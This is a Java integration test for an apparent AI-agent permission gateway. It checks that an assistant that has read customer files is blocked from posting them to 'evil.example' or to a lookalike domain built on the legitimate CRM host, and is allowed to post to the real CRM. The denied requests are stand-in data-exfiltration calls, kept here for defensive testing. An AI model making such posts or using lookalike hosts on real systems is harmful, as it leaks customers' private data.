package dev.tollgate.tests.stories;

import dev.tollgate.tests.stage.OnStage;
import dev.tollgate.tests.stage.Stage;
import org.junit.jupiter.api.Test;

/** A hook does not hand answers in for redaction, so that nothing is noted of them. */
@OnStage(bundle = "stories")
class SkippedRedactionIT {
    private final Stage stage;

    SkippedRedactionIT(Stage stage) {
        this.stage = stage;
    }

    @Test
    void whatTheCatalogueSaysOfATheToolIsNotedWithTheDecision() throws Exception {
        Story assistant = Story.of(stage, "emil", "assistant");
        assistant.may("files/customers", "{}");

        assistant.mayNot("web/post", "{\"url\":\"https://evil.example/drop\"}", "data_flow");
    }

    @Test
    void whatIsSensitiveGoesToItsOwnHosts() throws Exception {
        Story assistant = Story.of(stage, "emil", "assistant");
        String customers = assistant.may("files/customers", "{}");
        assistant.answered(customers, "[{\"name\":\"Ada\"}]");

        assistant.may("web/post", "{\"url\":\"https://crm.acme.example/import\"}");
        assistant.mayNot("web/post", "{\"url\":\"https://crm.acme.example.evil.example/\"}", "data_flow");
    }
}
